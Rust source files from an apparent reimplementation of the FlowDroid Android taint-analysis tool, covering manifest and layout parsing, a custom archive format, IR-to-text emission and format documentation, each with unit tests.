            ComponentKind::Activity => "activity",
            ComponentKind::Service => "service",
            ComponentKind::BroadcastReceiver => "receiver",
            ComponentKind::ContentProvider => "provider",
        };
        f.write_str(s)
    }
}

/// One component declared in the manifest.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ComponentDecl {
    /// The component kind.
    pub kind: ComponentKind,
    /// Fully qualified class name (relative names are resolved against
    /// the manifest package).
    pub class_name: String,
    /// `android:enabled` (defaults to `true`). Disabled components are
    /// excluded from the lifecycle model, exactly as the paper's
    /// InactiveActivity benchmark requires.
    pub enabled: bool,
    /// `android:exported` (defaults to `false`).
    pub exported: bool,
    /// Whether an intent filter marks this the MAIN/LAUNCHER activity.
    pub is_launcher: bool,
}

/// A parsed manifest.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Manifest {
    /// The application package.
    pub package: String,
    /// Declared components in document order.
    pub components: Vec<ComponentDecl>,
    /// Declared `<uses-permission>` names in document order.
    pub permissions: Vec<String>,
}

impl Manifest {
    /// Parses a manifest document.
    ///
    /// # Errors
    ///
    /// Returns [`XmlError`] on malformed XML or a missing
    /// `<manifest package=…>` root.
    pub fn parse(input: &str) -> Result<Manifest, XmlError> {
        let root = xml::parse(input)?;
        if root.name != "manifest" {
            return Err(XmlError {
                message: format!("expected <manifest> root, found <{}>", root.name),
                offset: 0,
            });
        }
        let package = root.attr("package").unwrap_or("").to_owned();
        let permissions: Vec<String> = root
            .children_named("uses-permission")
            .filter_map(|e| e.attr("android:name"))
            .map(str::to_owned)
            .collect();
        let mut components = Vec::new();
        if let Some(app) = root.child("application") {
            for child in &app.children {
                let kind = match child.name.as_str() {
                    "activity" => ComponentKind::Activity,
                    "service" => ComponentKind::Service,
                    "receiver" => ComponentKind::BroadcastReceiver,
                    "provider" => ComponentKind::ContentProvider,
                    _ => continue,
                };
                let raw_name = child.attr("android:name").unwrap_or("");
                let class_name = if let Some(stripped) = raw_name.strip_prefix('.') {
                    format!("{package}.{stripped}")
                } else if raw_name.contains('.') || package.is_empty() {
                    raw_name.to_owned()
                } else {
                    format!("{package}.{raw_name}")
                };
                let enabled = child.attr("android:enabled") != Some("false");
                let exported = child.attr("android:exported") == Some("true");
                let is_launcher = child.children_named("intent-filter").any(|f| {
                    f.children_named("action").any(|a| {
                        a.attr("android:name") == Some("android.intent.action.MAIN")
                    })
                });
                components.push(ComponentDecl { kind, class_name, enabled, exported, is_launcher });
            }
        }
        Ok(Manifest { package, components, permissions })
    }

    /// Components that are enabled (participate in the lifecycle model).
    pub fn enabled_components(&self) -> impl Iterator<Item = &ComponentDecl> {
        self.components.iter().filter(|c| c.enabled)
    }

    /// The launcher activity, if declared.
    pub fn launcher(&self) -> Option<&ComponentDecl> {
        self.components
            .iter()
            .find(|c| c.is_launcher && c.kind == ComponentKind::Activity)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DOC: &str = r#"<?xml version="1.0"?>
<manifest package="com.example">
  <uses-permission android:name="android.permission.READ_PHONE_STATE"/>
  <uses-permission android:name="android.permission.SEND_SMS"/>
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
    <activity android:name="com.other.Second" android:enabled="false"/>
    <service android:name="Worker"/>
    <receiver android:name=".Boot" android:exported="true"/>
    <provider android:name=".Store"/>
  </application>
</manifest>"#;

    #[test]
    fn parses_components_and_names() {
        let m = Manifest::parse(DOC).unwrap();
        assert_eq!(m.package, "com.example");
        assert_eq!(m.components.len(), 5);
        assert_eq!(m.components[0].class_name, "com.example.Main");
        assert_eq!(m.components[1].class_name, "com.other.Second");
        assert_eq!(m.components[2].class_name, "com.example.Worker");
        assert_eq!(m.components[2].kind, ComponentKind::Service);
        assert_eq!(m.components[3].kind, ComponentKind::BroadcastReceiver);
        assert!(m.components[3].exported);
        assert_eq!(m.components[4].kind, ComponentKind::ContentProvider);
    }

    #[test]
    fn disabled_components_are_filtered() {
        let m = Manifest::parse(DOC).unwrap();
        assert!(!m.components[1].enabled);
        assert_eq!(m.enabled_components().count(), 4);
    }

    #[test]
    fn uses_permissions_are_collected() {
        let m = Manifest::parse(DOC).unwrap();
        assert_eq!(
            m.permissions,
            vec![
                "android.permission.READ_PHONE_STATE".to_owned(),
                "android.permission.SEND_SMS".to_owned()
            ]
        );
    }

    #[test]
    fn launcher_detection() {
        let m = Manifest::parse(DOC).unwrap();
        assert_eq!(m.launcher().unwrap().class_name, "com.example.Main");
    }

    #[test]
    fn rejects_wrong_root() {
        assert!(Manifest::parse("<application/>").is_err());
    }

    #[test]
    fn component_kind_base_classes() {
        assert_eq!(ComponentKind::Activity.base_class(), "android.app.Activity");
        assert_eq!(ComponentKind::Service.to_string(), "service");
    }
}
