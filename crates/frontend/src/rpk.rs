//! RPK: a simple archive container (the APK/zip substitute).
//!
//! An RPK bundles an app's manifest, layouts and code into one byte
//! stream, playing the role the zip-based APK plays for the original
//! FlowDroid. Format: magic `RPK1`, entry count (uleb128), then per
//! entry a uleb128-length-prefixed UTF-8 path and uleb128-length-prefixed
//! data.

use std::collections::BTreeMap;
use std::fmt;

const MAGIC: &[u8; 4] = b"RPK1";

/// An archive error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArchiveError {
    /// Description.
    pub message: String,
    /// Byte offset where reading failed.
    pub offset: usize,
}

impl fmt::Display for ArchiveError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "rpk error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for ArchiveError {}

/// An in-memory archive: path → bytes, iterated in path order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Archive {
    entries: BTreeMap<String, Vec<u8>>,
}

impl Archive {
    /// Creates an empty archive.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds (or replaces) an entry.
    pub fn add(&mut self, path: impl Into<String>, data: impl Into<Vec<u8>>) -> &mut Self {
        self.entries.insert(path.into(), data.into());
        self
    }

    /// The data of an entry.
    pub fn get(&self, path: &str) -> Option<&[u8]> {
        self.entries.get(path).map(Vec::as_slice)
    }

    /// The data of an entry as UTF-8 text.
    pub fn get_str(&self, path: &str) -> Option<&str> {
        self.get(path).and_then(|b| std::str::from_utf8(b).ok())
    }

    /// Iterates entries in path order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &[u8])> {
        self.entries.iter().map(|(p, d)| (p.as_str(), d.as_slice()))
    }

    /// Paths beginning with `prefix`.
    pub fn paths_under<'a>(&'a self, prefix: &'a str) -> impl Iterator<Item = &'a str> {
        self.entries
            .keys()
            .filter(move |p| p.starts_with(prefix))
            .map(String::as_str)
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns `true` if the archive has no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Serializes the archive.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(MAGIC);
        write_uleb(&mut out, self.entries.len() as u64);
        for (path, data) in &self.entries {
            write_uleb(&mut out, path.len() as u64);
            out.extend_from_slice(path.as_bytes());
            write_uleb(&mut out, data.len() as u64);
            out.extend_from_slice(data);
        }
        out
    }

    /// Parses an archive from bytes.
    ///
    /// # Errors
    ///
    /// Returns [`ArchiveError`] on bad magic, truncation or invalid
    /// UTF-8 paths.
    pub fn from_bytes(bytes: &[u8]) -> Result<Archive, ArchiveError> {
        if bytes.len() < 4 || &bytes[..4] != MAGIC {
            return Err(ArchiveError { message: "bad magic".into(), offset: 0 });
        }
        let mut pos = 4;
        let count = read_uleb(bytes, &mut pos)? as usize;
        let mut entries = BTreeMap::new();
        for _ in 0..count {
            let plen = read_uleb(bytes, &mut pos)? as usize;
            let pend = pos.checked_add(plen).filter(|&e| e <= bytes.len()).ok_or(
                ArchiveError { message: "path overruns input".into(), offset: pos },
            )?;
            let path = std::str::from_utf8(&bytes[pos..pend])
                .map_err(|_| ArchiveError { message: "invalid UTF-8 path".into(), offset: pos })?
                .to_owned();
            pos = pend;
            let dlen = read_uleb(bytes, &mut pos)? as usize;
            let dend = pos.checked_add(dlen).filter(|&e| e <= bytes.len()).ok_or(
                ArchiveError { message: "data overruns input".into(), offset: pos },
            )?;
            entries.insert(path, bytes[pos..dend].to_vec());
            pos = dend;
        }
        if pos != bytes.len() {
            return Err(ArchiveError { message: "trailing bytes".into(), offset: pos });
        }
        Ok(Archive { entries })
    }
}

fn write_uleb(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn read_uleb(bytes: &[u8], pos: &mut usize) -> Result<u64, ArchiveError> {
    let mut v: u64 = 0;
    let mut shift = 0;
    loop {
        let b = *bytes
            .get(*pos)
            .ok_or(ArchiveError { message: "unexpected end of input".into(), offset: *pos })?;
        *pos += 1;
        if shift >= 64 {
            return Err(ArchiveError { message: "uleb128 overflow".into(), offset: *pos });
        }
        v |= u64::from(b & 0x7f) << shift;
        if b & 0x80 == 0 {
            return Ok(v);
        }
        shift += 7;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let mut a = Archive::new();
        a.add("AndroidManifest.xml", "<manifest/>".as_bytes());
        a.add("res/layout/main.xml", "<L/>".as_bytes());
        a.add("classes.jasm", b"class A { }".to_vec());
        let bytes = a.to_bytes();
        let b = Archive::from_bytes(&bytes).unwrap();
        assert_eq!(a, b);
        assert_eq!(b.get_str("AndroidManifest.xml"), Some("<manifest/>"));
        assert_eq!(b.len(), 3);
        assert_eq!(b.paths_under("res/layout/").count(), 1);
    }

    #[test]
    fn empty_archive_round_trips() {
        let a = Archive::new();
        let b = Archive::from_bytes(&a.to_bytes()).unwrap();
        assert!(b.is_empty());
    }

    #[test]
    fn bad_magic_rejected() {
        assert!(Archive::from_bytes(b"ZIP!").is_err());
        assert!(Archive::from_bytes(b"").is_err());
    }

    #[test]
    fn truncation_rejected() {
        let mut a = Archive::new();
        a.add("x", vec![1, 2, 3]);
        let mut bytes = a.to_bytes();
        bytes.truncate(bytes.len() - 2);
        assert!(Archive::from_bytes(&bytes).is_err());
    }

    #[test]
    fn trailing_bytes_rejected() {
        let a = Archive::new();
        let mut bytes = a.to_bytes();
        bytes.push(0);
        assert!(Archive::from_bytes(&bytes).is_err());
    }

    #[test]
    fn replace_keeps_latest() {
        let mut a = Archive::new();
        a.add("x", vec![1]).add("x", vec![2]);
        assert_eq!(a.get("x"), Some(&[2u8][..]));
        assert_eq!(a.len(), 1);
    }
}
