//! Emitting IR back to `jasm` text (the inverse of [`crate::jasm`]).
//!
//! Useful for inspecting generated code (dummy mains, SDEX images) and
//! for program↔text round-trip testing. The emitted text re-parses to a
//! structurally identical program.

use flowdroid_ir::{
    ClassId, Constant, Cond, InvokeExpr, InvokeKind, Local, MethodId, Operand, Place, Program,
    Rvalue, Stmt, UnOp,
};
use flowdroid_ir::{FxHashMap, FxHashSet};
use std::fmt::Write;

/// Emits the given classes as a `jasm` compilation unit.
pub fn emit_jasm(program: &Program, classes: &[ClassId]) -> String {
    let mut out = String::new();
    for &c in classes {
        emit_class(program, c, &mut out);
    }
    out
}

fn emit_class(p: &Program, cid: ClassId, out: &mut String) {
    let c = p.class(cid);
    if c.is_interface() {
        write!(out, "interface {}", p.class_name(cid)).unwrap();
        let mut supers: Vec<&str> = Vec::new();
        supers.extend(c.interfaces().iter().map(|&i| p.class_name(i)));
        if !supers.is_empty() {
            write!(out, " extends {}", supers.join(", ")).unwrap();
        }
    } else {
        if c.is_abstract() {
            out.push_str("abstract ");
        }
        write!(out, "class {}", p.class_name(cid)).unwrap();
        if let Some(s) = c.superclass() {
            write!(out, " extends {}", p.class_name(s)).unwrap();
        }
        if !c.interfaces().is_empty() {
            let names: Vec<&str> = c.interfaces().iter().map(|&i| p.class_name(i)).collect();
            write!(out, " implements {}", names.join(", ")).unwrap();
        }
    }
    out.push_str(" {\n");
    for &f in c.fields() {
        let fd = p.field(f);
        let st = if fd.is_static() { "static " } else { "" };
        writeln!(out, "  {}field {}: {}", st, p.str(fd.name()), p.type_name(fd.ty())).unwrap();
    }
    for &m in c.methods() {
        emit_method(p, m, out);
    }
    out.push_str("}\n");
}

/// Local display names, deduplicated so the emitted text re-parses.
fn local_names(p: &Program, mid: MethodId) -> Vec<String> {
    let m = p.method(mid);
    let Some(body) = m.body() else { return Vec::new() };
    let mut used: FxHashSet<String> = FxHashSet::default();
    let mut names = Vec::with_capacity(body.locals().len());
    for (i, decl) in body.locals().iter().enumerate() {
        let base = sanitize(&decl.name, i);
        let mut name = base.clone();
        let mut k = 1;
        while !used.insert(name.clone()) {
            name = format!("{base}_{k}");
            k += 1;
        }
        names.push(name);
    }
    names
}

fn sanitize(name: &str, idx: usize) -> String {
    let cleaned: String = name
        .chars()
        .map(|ch| if ch.is_ascii_alphanumeric() || ch == '_' || ch == '$' { ch } else { '_' })
        .collect();
    let ok_start = cleaned
        .chars()
        .next()
        .is_some_and(|ch| ch.is_ascii_alphabetic() || ch == '_' || ch == '$');
    if cleaned.is_empty() || !ok_start || is_reserved(&cleaned) {
        format!("v{idx}")
    } else {
        cleaned
    }
}

fn is_reserved(s: &str) -> bool {
    matches!(
        s,
        "let" | "label" | "goto" | "if" | "return" | "throw" | "nop" | "static" | "new"
            | "newarray" | "neg" | "lengthof" | "opaque" | "instanceof" | "null" | "cmp"
            | "class" | "interface" | "extends" | "implements" | "field" | "method"
            | "native" | "abstract" | "virtualinvoke" | "interfaceinvoke" | "specialinvoke"
            | "staticinvoke"
    )
}

fn emit_method(p: &Program, mid: MethodId, out: &mut String) {
    let m = p.method(mid);
    let mut mods = String::new();
    if m.is_static() {
        mods.push_str("static ");
    }
    if m.is_native() {
        mods.push_str("native ");
    }
    if m.is_abstract() && !m.is_native() && m.body().is_none() {
        mods.push_str("abstract ");
    }
    let names = local_names(p, mid);
    let params: Vec<String> = (0..m.param_count())
        .map(|i| {
            let l = m.param_local(i);
            let name = names
                .get(l.index())
                .cloned()
                .unwrap_or_else(|| format!("p{i}"));
            format!("{}: {}", name, p.type_name(&m.subsig().params[i]))
        })
        .collect();
    let name = p.str(m.name());
    write!(
        out,
        "  {}method {}({}) -> {}",
        mods,
        name,
        params.join(", "),
        p.type_name(&m.subsig().ret)
    )
    .unwrap();
    let Some(body) = m.body() else {
        out.push('\n');
        return;
    };
    out.push_str(" {\n");
    // Non-parameter locals.
    let first_var = m.param_count() + usize::from(!m.is_static());
    for (i, decl) in body.locals().iter().enumerate().skip(first_var) {
        writeln!(out, "    let {}: {}", names[i], p.type_name(&decl.ty)).unwrap();
    }
    // Branch targets need labels.
    let mut targets: FxHashMap<usize, String> = FxHashMap::default();
    for s in body.stmts() {
        match s {
            Stmt::If { target, .. } | Stmt::Goto { target } => {
                let next = targets.len();
                targets.entry(*target).or_insert_with(|| format!("L{next}"));
            }
            _ => {}
        }
    }
    let cx = Cx { p, names: &names, targets: &targets };
    for (i, s) in body.stmts().iter().enumerate() {
        if let Some(label) = targets.get(&i) {
            writeln!(out, "  label {label}:").unwrap();
        }
        writeln!(out, "    {}", cx.stmt(s)).unwrap();
    }
    out.push_str("  }\n");
}

struct Cx<'a> {
    p: &'a Program,
    names: &'a [String],
    targets: &'a FxHashMap<usize, String>,
}

impl Cx<'_> {
    fn local(&self, l: Local) -> &str {
        &self.names[l.index()]
    }

    fn operand(&self, o: &Operand) -> String {
        match o {
            Operand::Local(l) => self.local(*l).to_owned(),
            Operand::Const(c) => self.constant(c),
        }
    }

    fn constant(&self, c: &Constant) -> String {
        match c {
            Constant::Int(v) => v.to_string(),
            Constant::Str(s) => format!("{:?}", self.p.str(*s)),
            Constant::Null => "null".to_owned(),
            // Class constants have no jasm literal; a null stands in
            // (they do not occur in parsed programs).
            Constant::Class(_) => "null".to_owned(),
        }
    }

    fn place(&self, pl: &Place) -> String {
        match pl {
            Place::Local(l) => self.local(*l).to_owned(),
            Place::InstanceField(b, f) => {
                format!("{}.{}", self.local(*b), self.p.str(self.p.field(*f).name()))
            }
            Place::StaticField(f) => {
                let fd = self.p.field(*f);
                format!("static {}.{}", self.p.class_name(fd.class()), self.p.str(fd.name()))
            }
            Place::ArrayElem(b, i) => format!("{}[{}]", self.local(*b), self.operand(i)),
        }
    }

    fn rvalue(&self, r: &Rvalue) -> String {
        match r {
            Rvalue::Read(pl) => self.place(pl),
            Rvalue::Const(c) => self.constant(c),
            Rvalue::New(c) => format!("new {}", self.p.class_name(*c)),
            Rvalue::NewArray(t, n) => {
                format!("newarray {}[{}]", self.p.type_name(t), self.operand(n))
            }
            Rvalue::BinOp(op, a, b) => {
                let sym = match op {
                    flowdroid_ir::BinOp::Add => "+",
                    flowdroid_ir::BinOp::Sub => "-",
                    flowdroid_ir::BinOp::Mul => "*",
                    flowdroid_ir::BinOp::Div => "/",
                    flowdroid_ir::BinOp::Rem => "%",
                    flowdroid_ir::BinOp::And => "&",
                    flowdroid_ir::BinOp::Or => "|",
                    flowdroid_ir::BinOp::Xor => "^",
                    flowdroid_ir::BinOp::Shl => "<<",
                    flowdroid_ir::BinOp::Shr => ">>",
                    flowdroid_ir::BinOp::Cmp => "cmp",
                };
                format!("{} {} {}", self.operand(a), sym, self.operand(b))
            }
            Rvalue::UnOp(UnOp::Neg, a) => format!("neg {}", self.operand(a)),
            Rvalue::UnOp(UnOp::Len, a) => format!("lengthof {}", self.operand(a)),
            Rvalue::Cast(t, a) => format!("({}) {}", self.p.type_name(t), self.operand(a)),
            Rvalue::InstanceOf(a, t) => {
                format!("{} instanceof {}", self.operand(a), self.p.type_name(t))
            }
        }
    }

    fn invoke(&self, call: &InvokeExpr) -> String {
        let kind = match call.kind {
            InvokeKind::Virtual => "virtualinvoke",
            InvokeKind::Interface => "interfaceinvoke",
            InvokeKind::Special => "specialinvoke",
            InvokeKind::Static => "staticinvoke",
        };
        let params: Vec<String> =
            call.callee.subsig.params.iter().map(|t| self.p.type_name(t)).collect();
        let sig = format!(
            "<{}: {} {}({})>",
            self.p.class_name(call.callee.class),
            self.p.type_name(&call.callee.subsig.ret),
            self.p.str(call.callee.subsig.name),
            params.join(",")
        );
        let args: Vec<String> = call.args.iter().map(|a| self.operand(a)).collect();
        match call.base {
            Some(b) => format!("{kind} {}.{sig}({})", self.local(b), args.join(", ")),
            None => format!("{kind} {sig}({})", args.join(", ")),
        }
    }

    fn stmt(&self, s: &Stmt) -> String {
        match s {
            Stmt::Assign { lhs, rhs } => format!("{} = {}", self.place(lhs), self.rvalue(rhs)),
            Stmt::Invoke { result: Some(r), call } => {
                format!("{} = {}", self.local(*r), self.invoke(call))
            }
            Stmt::Invoke { result: None, call } => self.invoke(call),
            Stmt::If { cond: Cond::Opaque, target } => {
                format!("if opaque goto {}", self.targets[target])
            }
            Stmt::If { cond: Cond::Cmp(op, a, b), target } => {
                let sym = match op {
                    flowdroid_ir::CmpOp::Eq => "==",
                    flowdroid_ir::CmpOp::Ne => "!=",
                    flowdroid_ir::CmpOp::Lt => "<",
                    flowdroid_ir::CmpOp::Le => "<=",
                    flowdroid_ir::CmpOp::Gt => ">",
                    flowdroid_ir::CmpOp::Ge => ">=",
                };
                format!(
                    "if {} {} {} goto {}",
                    self.operand(a),
                    sym,
                    self.operand(b),
                    self.targets[target]
                )
            }
            Stmt::Goto { target } => format!("goto {}", self.targets[target]),
            Stmt::Return { value: Some(v) } => format!("return {}", self.operand(v)),
            Stmt::Return { value: None } => "return".to_owned(),
            Stmt::Throw { value } => format!("throw {}", self.operand(value)),
            Stmt::Nop => "nop".to_owned(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jasm::parse_jasm;
    use crate::layout::ResourceTable;
    use flowdroid_ir::ProgramPrinter;

    const SRC: &str = r#"
class rt.Helper extends java.lang.Object {
  static field count: int
  field next: rt.Helper
  method <init>() -> void {
    return
  }
  static method run(x: java.lang.String, n: int) -> java.lang.String {
    let acc: java.lang.String
    let i: int
    let arr: java.lang.String[]
    let h: rt.Helper
    acc = ""
    i = 0
    arr = newarray java.lang.String[2]
    arr[0] = x
    h = new rt.Helper
    specialinvoke h.<rt.Helper: void <init>()>()
    h.next = h
    static rt.Helper.count = n
  label top:
    if i >= n goto done
    acc = acc + x
    i = i + 1
    goto top
  label done:
    if opaque goto alt
    return acc
  label alt:
    acc = (java.lang.String) acc
    return acc
  }
  native method nat(y: int) -> int
}
interface rt.Face {
  method poke(v: java.lang.String) -> void
}
"#;

    #[test]
    fn emit_parse_round_trip_preserves_structure() {
        let mut p1 = Program::new();
        p1.declare_class("java.lang.Object", None, &[]);
        let rt = ResourceTable::new();
        let ids = parse_jasm(&mut p1, &rt, SRC).unwrap();
        let text = emit_jasm(&p1, &ids);

        let mut p2 = Program::new();
        p2.declare_class("java.lang.Object", None, &[]);
        let ids2 = parse_jasm(&mut p2, &rt, &text)
            .unwrap_or_else(|e| panic!("emitted text re-parses: {e}\n{text}"));
        assert_eq!(ids.len(), ids2.len());
        for (&a, &b) in ids.iter().zip(&ids2) {
            let before = ProgramPrinter::new(&p1).class_to_string(a);
            let after = ProgramPrinter::new(&p2).class_to_string(b);
            assert_eq!(before, after, "emitted:\n{text}");
        }
    }

    #[test]
    fn reserved_local_names_are_renamed() {
        assert_eq!(sanitize("let", 3), "v3");
        assert_eq!(sanitize("9lives", 0), "v0");
        assert_eq!(sanitize("x-y", 1), "x_y");
        assert_eq!(sanitize("ok", 2), "ok");
    }
}
