//! Layout XML semantics and the resource-id table.
//!
//! Layout files declare the widgets of an activity. The analysis needs
//! three pieces of information from them (paper §3, §5):
//!
//! * which callback handlers are registered declaratively
//!   (`android:onClick="sendMessage"`),
//! * which widget ids denote *sensitive* input fields (password
//!   `EditText`s are sources),
//! * the integer resource ids that `findViewById`/`setContentView`
//!   constants in code refer to.

use crate::xml::{self, XmlElement, XmlError};
use flowdroid_ir::FxHashMap;

/// Base value for layout resource ids (mirrors aapt's `0x7f03____`).
pub const LAYOUT_ID_BASE: i64 = 0x7f03_0000;
/// Base value for widget ids (mirrors aapt's `0x7f08____`).
pub const WIDGET_ID_BASE: i64 = 0x7f08_0000;

/// The widget kinds the analysis distinguishes.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum WidgetKind {
    /// A clickable button.
    Button,
    /// A text input field.
    EditText,
    /// Any other view (layout containers, labels, …).
    Other,
}

/// One widget in a layout.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Widget {
    /// The widget kind.
    pub kind: WidgetKind,
    /// The widget's XML tag (e.g. `Button`, `LinearLayout`).
    pub tag: String,
    /// Resource id name from `android:id="@+id/name"`, if any.
    pub id_name: Option<String>,
    /// Declarative click handler from `android:onClick`, if any.
    pub on_click: Option<String>,
    /// Whether this is a password input (`android:inputType` containing
    /// `Password`, or `android:password="true"`).
    pub is_password: bool,
}

/// One parsed layout file.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Layout {
    /// Layout resource name (file stem, e.g. `main` for
    /// `res/layout/main.xml`).
    pub name: String,
    /// All widgets in the layout, in breadth-first document order.
    pub widgets: Vec<Widget>,
}

impl Layout {
    /// Parses a layout document. `name` is the resource name.
    ///
    /// # Errors
    ///
    /// Returns [`XmlError`] on malformed XML.
    pub fn parse(name: &str, input: &str) -> Result<Layout, XmlError> {
        let root = xml::parse(input)?;
        let widgets = root.descendants().into_iter().map(widget_of).collect();
        Ok(Layout { name: name.to_owned(), widgets })
    }

    /// All declarative click-handler method names in this layout.
    pub fn click_handlers(&self) -> impl Iterator<Item = &str> {
        self.widgets.iter().filter_map(|w| w.on_click.as_deref())
    }

    /// The widget with the given id name.
    pub fn widget_by_id(&self, id_name: &str) -> Option<&Widget> {
        self.widgets.iter().find(|w| w.id_name.as_deref() == Some(id_name))
    }
}

fn widget_of(e: &XmlElement) -> Widget {
    let kind = match e.name.as_str() {
        "Button" | "ImageButton" => WidgetKind::Button,
        "EditText" => WidgetKind::EditText,
        _ => WidgetKind::Other,
    };
    let id_name = e
        .attr("android:id")
        .and_then(|v| v.strip_prefix("@+id/").or_else(|| v.strip_prefix("@id/")))
        .map(str::to_owned);
    let on_click = e.attr("android:onClick").map(str::to_owned);
    let input_type = e.attr("android:inputType").unwrap_or("");
    let is_password = input_type.to_ascii_lowercase().contains("password")
        || e.attr("android:password") == Some("true");
    Widget { kind, tag: e.name.clone(), id_name, on_click, is_password }
}

/// The app-wide resource table: maps symbolic resource names to the
/// integer constants code refers to (our equivalent of the generated
/// `R` class).
#[derive(Clone, Debug, Default)]
pub struct ResourceTable {
    layout_ids: FxHashMap<String, i64>,
    widget_ids: FxHashMap<String, i64>,
    layouts_by_id: FxHashMap<i64, String>,
    widgets_by_id: FxHashMap<i64, String>,
}

impl ResourceTable {
    /// Creates an empty table.
    pub fn new() -> Self {
        Self::default()
    }

    /// Builds the table from a set of parsed layouts, assigning ids in
    /// iteration order.
    pub fn from_layouts<'a>(layouts: impl IntoIterator<Item = &'a Layout>) -> Self {
        let mut t = Self::new();
        for layout in layouts {
            t.add_layout(layout);
        }
        t
    }

    /// Registers a layout and all its widget ids.
    pub fn add_layout(&mut self, layout: &Layout) {
        let next = LAYOUT_ID_BASE + self.layout_ids.len() as i64;
        let lid = *self.layout_ids.entry(layout.name.clone()).or_insert(next);
        self.layouts_by_id.insert(lid, layout.name.clone());
        for w in &layout.widgets {
            if let Some(id) = &w.id_name {
                let next = WIDGET_ID_BASE + self.widget_ids.len() as i64;
                let wid = *self.widget_ids.entry(id.clone()).or_insert(next);
                self.widgets_by_id.insert(wid, id.clone());
            }
        }
    }

    /// The integer id of `R.layout.<name>`.
    pub fn layout_id(&self, name: &str) -> Option<i64> {
        self.layout_ids.get(name).copied()
    }

    /// The integer id of `R.id.<name>`.
    pub fn widget_id(&self, name: &str) -> Option<i64> {
        self.widget_ids.get(name).copied()
    }

    /// Reverse lookup: layout name from integer id.
    pub fn layout_name(&self, id: i64) -> Option<&str> {
        self.layouts_by_id.get(&id).map(String::as_str)
    }

    /// Reverse lookup: widget id name from integer id.
    pub fn widget_name(&self, id: i64) -> Option<&str> {
        self.widgets_by_id.get(&id).map(String::as_str)
    }

    /// Resolves a symbolic reference of the form `@layout/name` or
    /// `@id/name` to its integer id.
    pub fn resolve(&self, sym: &str) -> Option<i64> {
        if let Some(n) = sym.strip_prefix("@layout/") {
            self.layout_id(n)
        } else if let Some(n) = sym.strip_prefix("@id/") {
            self.widget_id(n)
        } else {
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DOC: &str = r#"<?xml version="1.0"?>
<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
    <EditText android:id="@+id/username"/>
    <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
    <Button android:id="@+id/button1" android:onClick="sendMessage"/>
</LinearLayout>"#;

    #[test]
    fn parses_widgets() {
        let l = Layout::parse("main", DOC).unwrap();
        assert_eq!(l.widgets.len(), 4); // root + 3
        let pwd = l.widget_by_id("pwdString").unwrap();
        assert!(pwd.is_password);
        assert_eq!(pwd.kind, WidgetKind::EditText);
        let user = l.widget_by_id("username").unwrap();
        assert!(!user.is_password);
        let btn = l.widget_by_id("button1").unwrap();
        assert_eq!(btn.on_click.as_deref(), Some("sendMessage"));
        assert_eq!(l.click_handlers().collect::<Vec<_>>(), vec!["sendMessage"]);
    }

    #[test]
    fn legacy_password_attribute() {
        let l = Layout::parse("x", r#"<EditText android:id="@+id/p" android:password="true"/>"#)
            .unwrap();
        assert!(l.widget_by_id("p").unwrap().is_password);
    }

    #[test]
    fn resource_table_assigns_stable_ids() {
        let l = Layout::parse("main", DOC).unwrap();
        let t = ResourceTable::from_layouts([&l]);
        let lid = t.layout_id("main").unwrap();
        assert_eq!(lid, LAYOUT_ID_BASE);
        assert_eq!(t.layout_name(lid), Some("main"));
        let wid = t.widget_id("pwdString").unwrap();
        assert!(wid >= WIDGET_ID_BASE);
        assert_eq!(t.widget_name(wid), Some("pwdString"));
        assert_eq!(t.resolve("@id/pwdString"), Some(wid));
        assert_eq!(t.resolve("@layout/main"), Some(lid));
        assert_eq!(t.resolve("@id/nope"), None);
        assert_eq!(t.resolve("garbage"), None);
    }

    #[test]
    fn duplicate_registration_is_idempotent() {
        let l = Layout::parse("main", DOC).unwrap();
        let mut t = ResourceTable::new();
        t.add_layout(&l);
        let id1 = t.widget_id("button1").unwrap();
        t.add_layout(&l);
        assert_eq!(t.widget_id("button1"), Some(id1));
    }
}
