//! SDEX: a compact binary class format (the dex-parsing substitute).
//!
//! The original FlowDroid converts Dalvik bytecode to Jimple with
//! Dexpler. We cannot redistribute real dex files, so apps can instead
//! ship their classes in SDEX: a binary serialization of the IR with a
//! string pool, descriptor-encoded types and opcode-encoded statement
//! streams. The encoder and decoder are independent implementations
//! (the decoder never trusts offsets blindly and validates as it reads),
//! and round-trip equality is property-tested.
//!
//! Layout (all multi-byte integers are unsigned LEB128 unless noted):
//!
//! ```text
//! magic  "SDEX"            4 bytes
//! version u16 little-endian
//! string pool: count, then per string: byte length + UTF-8 bytes
//! class count, then per class:
//!   name(str idx)  flags(u8: 1=interface 2=abstract)
//!   super: 0 or 1 + str idx
//!   interface count + str idxs
//!   field count, per field: name idx, type descriptor idx, flags(1=static)
//!   method count, per method:
//!     name idx, ret descriptor idx, param count + descriptor idxs,
//!     flags(1=static 2=native 4=abstract)
//!     body: 0 or 1 + locals (count, per local: name idx, descriptor idx)
//!       + stmts (count, per stmt: line, opcode, operands)
//! ```
//!
//! Type descriptors use JVM syntax: `I J Z B C S F D V`, `Lcom.foo;`
